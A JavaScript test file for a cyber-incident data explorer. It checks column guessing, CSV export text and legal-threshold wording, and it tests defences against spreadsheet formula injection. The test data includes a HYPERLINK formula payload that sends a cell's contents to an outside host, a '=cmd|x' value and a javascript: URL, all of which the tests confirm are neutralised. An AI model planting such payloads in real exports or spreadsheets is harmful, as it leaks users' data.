// The JavaScript logic that stays in JavaScript, tested in Node without a browser: column guessing
// for the mapping form, the CSV download's preamble and header, the per-view sentences and the card's words,
// all read from the generated vocabularies (www/schema.js).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { FILTERS, VIEWS, FORMATS } from '../../www/schema.js';
import { COLUMNS, MAPPING_FIELDS } from '../../www/schema-files.js';
import { guessColumn } from '../../www/load-ui.js';
import { csvHead } from '../../www/downloads.js';
import { chartNote, describe, thresholdsText } from '../../www/stats-view.js';
import { formatDate, safeUrl, thresholdText, treatyText } from '../../www/card.js';
import { compareCsv } from '../../www/compare.js';
import { CONTROL_NAMES } from '../../www/controls.js';

const field = (name) => MAPPING_FIELDS.find((f) => f.name === name);
const LADDER = { key: 'ladder', name: 'the 0-10 escalation ladder', max: 10, readings: true };
const EUREPOC = { key: 'eurepoc-intensity', name: 'EuRepoC’s weighted intensity', max: 22, readings: false };
// Two readings as facets.readings carries them (the words are the generated ones' shape).
const FRANCE = {
  id: 'france', name: 'France', noGap: false,
  useOfForce: { rule: 'level 5 or above with physical damage or worse, or level 7 or above', short: '5+ if physical, 7+', from: 5, firm: 7 },
  armedAttack: { rule: 'level 8 or above', short: '8+', from: 8, firm: 8 },
};
const JAPAN = { id: 'japan', name: 'Japan', noGap: false, useOfForce: null, armedAttack: { rule: 'level 9 or above', short: '9+', from: 9, firm: 9 } };

test('the mapping form guesses columns from their names', () => {
  const columns = ['Headline', 'When', 'Attacker', 'Victim country', 'Score', 'Kind', 'Link'];
  assert.equal(guessColumn(field('start'), columns), 'When');
  assert.equal(guessColumn(field('initiator'), columns), 'Attacker');
  assert.equal(guessColumn(field('targets'), columns), 'Victim country');
  assert.equal(guessColumn(field('name'), columns), 'Headline');
  assert.equal(guessColumn(field('severity'), columns), 'Score');
  assert.equal(guessColumn(field('sources'), columns), 'Link');
  assert.equal(guessColumn(field('id'), columns), undefined, 'no column looks like an id');
  assert.equal(guessColumn(field('objective'), columns), undefined, 'a field without a pattern guesses nothing');
  assert.equal(guessColumn(field('start'), [' Start date ']), ' Start date ', 'names are trimmed before matching');
  assert.equal(guessColumn(field('start'), ['Restart']), undefined, 'whole-name patterns do not match inside a word');
  assert.deepEqual(MAPPING_FIELDS.filter((f) => f.required).map((f) => f.name), ['start', 'initiator']);
});

test('the CSV download\'s preamble names dataset, filters and reading, then the header the explorer reads', () => {
  // The rows are written by the core (Explorer.csvRows; tests/csv_export.rs).
  const facets = { source: 'bundled', version: '1.0.0', total: 126, scale: LADDER };
  const text = csvHead(2, { facets, reading: FRANCE, filterText: 'initiators=PRK', link: 'https://x.example/#v', now: new Date('2026-01-02T03:04:05Z') });
  const lines = text.split('\r\n');
  assert.equal(lines.at(-1), '', 'every line ends with CRLF');
  assert.equal(lines.at(-2), COLUMNS.map((c) => c.name).join(','));
  assert.match(lines[0], /^"# cyber-spectrum: 2 incidents selected from the cyber-spectrum dataset, version 1\.0\.0 \(126 incidents in all\)"$/);
  assert.ok(lines.includes('"# Severity: the 0-10 escalation ladder; thresholds in the reading of France: use of force level 5 or above '
    + 'with physical damage or worse, or level 7 or above, armed attack level 8 or above"'), lines.join('\n'));
  const other = csvHead(0, { facets: { ...facets, source: 'eurepoc', scale: EUREPOC }, filterText: '', link: 'l' });
  assert.ok(other.includes('"# Severity: EuRepoC’s weighted intensity"\r\n'), 'no thresholds on a scale without them');
});

test('each view says what its marks are, with the thresholds of the reading in use', () => {
  const [spectrum, timeline] = VIEWS;
  assert.match(chartNote(spectrum, LADDER, FRANCE), /^Each mark is one incident, stacked at its level on the ladder; .*use of force \(5\+ if physical, 7\+\) and armed attack \(8\+\) in the reading of France/);
  assert.match(chartNote(timeline, LADDER, JAPAN), /use of force \(none stated\) and armed attack \(9\+\) in the reading of Japan/);
  assert.match(chartNote(spectrum, EUREPOC, null), /its score on EuRepoC’s weighted intensity, 0 to 22; .*no use-of-force or armed-attack threshold/);
  assert.match(chartNote(timeline, LADDER, FRANCE, true), /^Too many incidents for a mark each: each cell’s shade .*; the line steps/);
  for (const view of VIEWS) {
    for (const [scale, r] of [[LADDER, FRANCE], [LADDER, JAPAN], [EUREPOC, null]]) {
      assert.doesNotMatch(chartNote(view, scale, r), /[{}]|undefined|null/, view.name);
    }
  }
  const stats = {
    total: 3, byInitiator: [{ name: 'North Korea', count: 3 }], firstYear: 2013, lastYear: 2014,
    byYear: [{ year: 2013, count: 1 }, { year: 2014, count: 2 }], maxSeverity: 6, severityCounts: [0, 0, 0, 1, 0, 0, 2],
    atOrAboveUseOfForce: 0, atOrAboveArmedAttack: 0, mostSevere: ['Sony'], mostSevereCount: 1, notCoded: 0,
    reading: 'france', readingName: 'France', undecidedUseOfForce: 1, undecidedArmedAttack: 0,
    useOfForceRule: FRANCE.useOfForce.rule, armedAttackRule: 'level 8 or above',
  };
  assert.match(describe(stats, spectrum), /under the reading of France, use of force: 0, armed attack: 0/);
  assert.equal(thresholdsText(stats), 'Under the reading of France: 0 reach use of force (level 5 or above with physical damage or worse, '
    + 'or level 7 or above); 0 reach armed attack (level 8 or above). 1 undecided: the answer turns on physical effects that are not coded.');
  assert.match(thresholdsText({ ...stats, reading: 'japan', readingName: 'Japan', atOrAboveUseOfForce: null, useOfForceRule: null, undecidedUseOfForce: null }),
    /^Under the reading of Japan: it states no use of force threshold; 0 reach armed attack/);
  assert.match(thresholdsText({ ...stats, reading: null }), /apply to the 0-10 ladder only/);
  assert.match(describe(stats, timeline), /^Escalation timeline: 3 incidents by North Korea, 2013 to 2014; the busiest year 2014 with 2;/);
  assert.doesNotMatch(describe(stats, spectrum), /busiest/);
});

test('the card reads dates as precise as they are, links only http(s), and places an incident under the reading', () => {
  assert.equal(formatDate('2017-05-12', 'day'), '12 May 2017');
  assert.equal(formatDate('2017-05', 'month'), 'May 2017');
  assert.equal(formatDate('2017-05-12', 'year'), '2017');
  assert.equal(safeUrl('javascript:alert(1)'), null);
  assert.equal(safeUrl(' https://example.org/a '), 'https://example.org/a');
  const facets = { scale: LADDER };
  const stuxnet = { severity: 5, targets: ['IRN'] };
  const assessed = { readingName: 'France', useOfForce: 'yes', armedAttack: 'no', treaties: [] };
  assert.equal(thresholdText(stuxnet, facets, assessed), 'Under the reading of France: reaches use of force; does not reach armed attack.');
  assert.match(thresholdText(stuxnet, facets, { ...assessed, useOfForce: 'undecided' }), /may reach use of force: the answer turns on physical effects/);
  assert.match(thresholdText(stuxnet, facets, { ...assessed, readingName: 'Japan', useOfForce: null }), /no use of force threshold stated; does not reach/);
  assert.equal(thresholdText({ severity: null }, facets, undefined), 'Not coded, so not placed against the thresholds.');
  assert.match(thresholdText({ severity: 3 }, { scale: EUREPOC }), /no use-of-force or armed-attack threshold/);
  assert.equal(treatyText(assessed), null);
  const treaty = { name: 'US-ROK Mutual Defense Treaty', clause: 'Article III', scope: 'an armed attack in the Pacific area' };
  assert.match(treatyText({ ...assessed, treaties: [treaty] }), /^US-ROK Mutual Defense Treaty, Article III \(an armed attack in the Pacific area\)\. .*political decision/);
});

test('the comparison of readings downloads as CSV with no cell a spreadsheet would run', () => {
  const rows = [{ id: 'france', name: 'France', useOfForce: { count: 1, undecided: 0, incidents: [{ id: '=cmd|x', name: 'n', level: 5 }], undecidedIncidents: [] }, armedAttack: null }];
  const text = compareCsv(rows, [FRANCE]);
  const [header, force, attack] = text.trim().split('\r\n');
  assert.equal(header, '"reading","reading_name","threshold","rule","count","undecided","incidents_first_50","undecided_first_50"');
  assert.equal(force, `"france","France","use of force","${FRANCE.useOfForce.rule}","1","0","'=cmd|x",""`);
  assert.equal(attack, '"france","France","armed attack","level 8 or above","","","",""');
});

test('the filter form offers one control per control name of the filter table, ranges first', () => {
  assert.deepEqual(CONTROL_NAMES, ['years', 'severity', 'search', 'reading', 'initiators', 'targets', 'methods', 'objectives', 'target-types', 'attribution', 'responses', 'scope']);
  assert.deepEqual(new Set(CONTROL_NAMES), new Set(FILTERS.map((f) => f.control)));
  assert.equal(FORMATS[0].name, 'auto');
});

test('the element reads its presentational attributes, naming a bad one and what it takes', async () => {
  const { readControls, readTimeout, readHeight, readLang, themeError } = await import('../../www/embed-tools.js');
  assert.deepEqual(readLang('en-us'), { lang: 'en-US', error: null });
  assert.deepEqual(readLang(null), { lang: null, error: null });
  assert.match(readLang('en_US').error, /^Attribute lang="en_US" is not a language tag/);
  assert.deepEqual(readControls(null).names, [...CONTROL_NAMES, 'view', 'share']);
  assert.deepEqual(readControls(' none ').names, []);
  assert.deepEqual(readControls('years, view').names, ['years', 'view']);
  assert.equal(readControls('years,colours').error,
    'Attribute controls="years,colours": unknown control “colours” (use all, none, or any of: years, severity, search, reading, initiators, targets, methods, objectives, target-types, attribution, responses, scope, view, share).');
  assert.deepEqual(readTimeout(null), { seconds: undefined, error: null });
  assert.equal(readTimeout('45s').seconds, 45);
  assert.match(readTimeout('soon').error, /^Attribute timeout="soon": expected the seconds/);
  assert.match(readTimeout('0').error, /1 to 600/);
  assert.deepEqual(readHeight('480px'), { px: 480, error: null });
  assert.deepEqual(readHeight(''), { px: null, error: null });
  assert.match(readHeight('50').error, /200 to 2000/);
  assert.equal(themeError(' Dark '), null);
  assert.equal(themeError('neon'), 'Attribute theme="neon" is not one of: light, dark, auto.');
});

test('no CSV download carries a live formula: hostile filters and cells, read with a real CSV parser', async () => {
  const { execFileSync } = await import('node:child_process');
  const payload = '=HYPERLINK("http://host/x?"&A9,"Click for sources")';
  const facets = { source: 'a,"=sheet"', version: '1', total: 1, scale: LADDER };
  const text = csvHead(1, { facets, reading: FRANCE, filterText: `search=zz,"${payload}"`, link: 'https://x.example/#v' });
  const rows = JSON.parse(execFileSync('python3', ['-c',
    'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: text }));
  const cells = rows.flat();
  assert.ok(cells.length > 20, 'the preamble and the header');
  for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `a cell starts a formula: ${JSON.stringify(c)}`);
  // The preamble is one cell per line, whatever its text holds.
  for (const row of rows.filter((r) => r[0].startsWith('#'))) assert.equal(row.length, 1, JSON.stringify(row));
  assert.ok(cells.some((c) => c.includes(`search=zz,"${payload}"`)), 'the payload is kept, as text');
  const comparison = compareCsv([{ id: 'x', name: payload, useOfForce: null, armedAttack: null }], [FRANCE]);
  const parsed = JSON.parse(execFileSync('python3', ['-c',
    'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: comparison }));
  for (const c of parsed.flat()) assert.doesNotMatch(c, /^[=+\-@\t\r]/, c);
});

test('a download that trickles is given up on at its overall deadline, named in the message', async () => {
  // A real server and the real fetch: a byte every 100 ms is never silent for the 0.5 s timeout,
  // so only the deadline (ten times the timeout) stops it.
  const { createServer } = await import('node:http');
  const { fetchBytes } = await import('../../www/loader.js');
  const server = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/csv' });
    const tick = setInterval(() => res.write('x'), 100);
    req.on('close', () => clearInterval(tick));
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  const url = `http://127.0.0.1:${server.address().port}/trickle.csv`;
  const begun = Date.now();
  try {
    await assert.rejects(fetchBytes(url, { stallSeconds: 0.5 }),
      /trickle\.csv was still downloading after 5 s \(0\.0 MB received; the limit is 10 times the 0\.5 s timeout\); gave up$/);
    const seconds = (Date.now() - begun) / 1000;
    assert.ok(seconds >= 4.5 && seconds < 15, `${seconds} s`);
  } finally {
    server.closeAllConnections?.();
    server.close();
  }
});
